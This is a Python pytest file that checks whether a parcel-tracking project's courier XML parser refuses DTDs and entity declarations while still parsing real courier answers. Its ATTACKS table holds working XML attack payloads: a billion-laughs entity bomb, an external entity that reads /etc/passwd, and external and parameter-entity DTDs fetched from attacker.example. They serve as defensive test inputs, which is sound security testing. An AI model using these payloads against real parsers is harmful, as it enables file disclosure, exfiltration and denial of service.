"""Courier XML goes through one parser (tracking.carriers.soap, defusedxml): entity expansion,
external entities and DTDs are refused as a courier-format fault for every XML courier, and
real answers still parse."""

import re

import pytest

from tests.support.shared_data import read_carrier_sample
from tracking import carriers
from tracking.carriers.base import CarrierPayloadError
from tracking.carriers.soap import xml_document

# Each XML courier with a real-format answer of its own (France, Belgium/Germany, the DHL
# Express network).
XML_SAMPLES = [
    pytest.param("chronopost", "chronopost_trackskybillv2_delivered.xml", id="chronopost"),
    pytest.param("dpd", "dpd_parcellifecycle_returning_from_delivery.xml", id="dpd"),
    pytest.param(
        "mondialrelay",
        "mondialrelay_wsi2_tracingcolisdetaille_in_progress_stat81.xml",
        id="mondialrelay",
    ),  # fmt: skip
    pytest.param("dhlexpress", "dhl_express_xmlpi_picked_up.xml", id="dhlexpress"),
]

# What an attacker (or a compromised courier endpoint) would put before the document element.
ATTACKS = {
    "billion-laughs": (
        '<!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    ),
    "external-entity": '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "external-dtd": '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">',
    "parameter-entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
    "harmless-internal-dtd": "<!DOCTYPE Envelope [<!ELEMENT Envelope ANY>]>",
}


def _with_prologue(sample: bytes, declaration: str) -> bytes:
    """The sample with ``declaration`` inserted before its document element (after any XML
    declaration), the only place a DTD may stand."""
    text = sample.decode("utf-8")
    match = re.match(r"\s*<\?xml[^>]*\?>", text)
    cut = match.end() if match else 0
    return (text[:cut] + declaration + text[cut:]).encode("utf-8")


@pytest.mark.parametrize("slug,sample", XML_SAMPLES)
def test_xml_couriers_parse_their_real_answers(slug, sample):
    # given a real-format answer of each XML courier
    body = read_carrier_sample(sample)
    # when it is parsed by the courier's adapter
    result = carriers.get_adapter(slug).parse(body)
    # then shipments or errors come out (the safe parser changes nothing for real answers)
    assert result.shipments or result.errors


@pytest.mark.parametrize("attack", list(ATTACKS))
@pytest.mark.parametrize("slug,sample", XML_SAMPLES)
def test_xml_couriers_refuse_dtds_and_entities_as_a_format_fault(slug, sample, attack):
    # given a real answer with a DTD / entity declaration in front of it
    body = _with_prologue(read_carrier_sample(sample), ATTACKS[attack])
    # when / then the courier's adapter raises its format fault, naming what was refused
    with pytest.raises(CarrierPayloadError, match="DTD, entities or external references"):
        carriers.get_adapter(slug).parse(body)


def test_xml_document_refuses_entity_expansion_before_expanding():
    # given a billion-laughs document whose entities are used in the body
    body = (
        b'<?xml version="1.0"?>' + ATTACKS["billion-laughs"].encode() + b"<r>&lol3;</r>"
    )  # fmt: skip
    # when / then it is refused (not expanded into a thousand "lol"s)
    with pytest.raises(CarrierPayloadError, match="refused"):
        xml_document(body, "chronopost")


def test_xml_document_accepts_doctype_text_inside_cdata():
    # given a courier message quoting HTML in a CDATA section (the old text search for
    # "<!DOCTYPE" refused such a document though it declares nothing)
    body = b"<r><message><![CDATA[<!DOCTYPE html><p>Colis en cours</p>]]></message></r>"
    # when it is parsed
    root = xml_document(body, "chronopost")
    # then the text is read as text
    assert root.findtext("message") == "<!DOCTYPE html><p>Colis en cours</p>"


def test_xml_document_tolerates_leading_whitespace_and_drops_namespaces():
    # given a .NET-style answer with whitespace before the declaration and namespaced tags
    body = b'\r\n  <?xml version="1.0" encoding="utf-8"?><a:r xmlns:a="urn:x"><a:b>1</a:b></a:r>'
    # when it is parsed
    root = xml_document(body, "mondialrelay")
    # then tags are bare names
    assert (root.tag, root.findtext("b")) == ("r", "1")


@pytest.mark.parametrize("body", [b"<r>", b"\xff\xfe", b"not xml"])
def test_xml_document_refuses_broken_documents_as_a_format_fault(body):
    with pytest.raises(CarrierPayloadError):
        xml_document(body, "dpd")
